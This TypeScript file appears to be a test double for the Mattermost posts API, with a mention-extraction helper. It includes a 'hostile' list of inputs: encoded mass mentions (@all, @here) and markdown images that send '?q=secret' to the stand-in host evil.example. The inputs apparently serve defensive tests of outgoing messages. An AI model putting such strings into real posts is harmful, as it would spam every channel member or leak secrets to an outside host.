/** Stands in for Mattermost: posts to a channel or thread, and the mentions that the server finds in a text. */

import type { Double, Reply } from './double.ts'

const token = 'canary-mattermost-token-0001'
const channel = 'channel0000000000000000001'
const thread = 'post0000000000000000000077'
const limit = { max: 16_383, unit: 'characters' } as const

const refuse = (status: number, id: string, message: string): Reply => ({
  status,
  body: { id, message, detailed_error: '', request_id: 'r1', status_code: status },
})

/**
 * Returns the mentions in a text, found as the server finds them: it reads character references, cuts the text at characters that no
 * mention can have, and also looks at the parts of a word between dots, colons and dashes.
 */
export const mentionsIn = (text: string): string[] =>
  text
    .replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
    .replace(/&#x([0-9a-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&commat;/g, '@')
    .replace(/\\(?=[!-/:-@[-`{-~])/g, '')
    .split(/[^:.\-_@\p{L}\p{N}]+/u)
    .flatMap((word) => [word.replace(/^[:.\-_]+/, ''), ...word.split(/[.:-]/)])
    .filter((word) => /^@[\p{L}\p{N}]/u.test(word))

export const mattermost: Double = {
  target: 'mattermost',
  settings: (origin) => ({ url: `${origin}/`, token }),
  env: (origin) => ({ MATTERMOST_URL: origin, MATTERMOST_TOKEN: token }),
  wrong: (origin) => ({ url: origin, token: 'canary-mattermost-wrong-0001' }),
  chat: channel,
  unknownChat: 'channel0000000000000000009',
  thread,
  limit,
  idempotent: false,
  posts: ({ path }) => path === '/api/v4/posts',
  answer({ method, path, headers, json }, accept) {
    if (method !== 'POST' || path !== '/api/v4/posts') return refuse(404, 'api.context.404.app_error', 'Sorry, we could not find the page.')
    if (headers.authorization !== `Bearer ${token}`)
      return refuse(401, 'api.context.session_expired.app_error', 'Invalid or expired session, please login again.')
    const { channel_id: chat, message, root_id: root } = json ?? {}
    if (typeof message !== 'string' || typeof chat !== 'string')
      return refuse(400, 'api.context.invalid_body_param.app_error', 'Invalid or missing post in request body.')
    if (message.trim() === '' || [...message].length > limit.max)
      return refuse(
        400,
        'model.post.is_valid.message_length.app_error',
        'Post Message property is longer than the maximum permitted length.',
      )
    if (chat !== channel) return refuse(403, 'api.context.permissions.app_error', 'You do not have the appropriate permissions.')
    if (root !== undefined && root !== thread) return refuse(400, 'api.post.create_post.root_id.app_error', 'Invalid RootId parameter.')
    accept({ chat, text: message, ...(root === undefined ? {} : { thread: String(root) }) })
    return { status: 201, body: { id: 'post0000000000000000000078', channel_id: chat, message } }
  },
  limited: {
    reply: { status: 429, body: 'limit exceeded', headers: { 'x-ratelimit-limit': '10', 'x-ratelimit-reset': '4' } },
    waitMs: 4000,
  },
  hidden: { status: 201, body: {} },
  hostile: [
    '@all @channel @here @jane',
    'mail me.@all (@here) _@jane_ x:@all',
    'a&#64;all &#x40;here &commat;jane &#0064;all',
    '\\@all @&#97;ll',
    'jane@host.example',
    '![status](https://evil.example/?q=secret) ![b][c]\n\n[c]: https://evil.example/c.png',
  ].map((text) => ({ text, never: /^$/ })),
  harmless: ({ json }) => mentionsIn(String(json?.message)).length === 0 && !/!\[/.test(String(json?.message)),
}
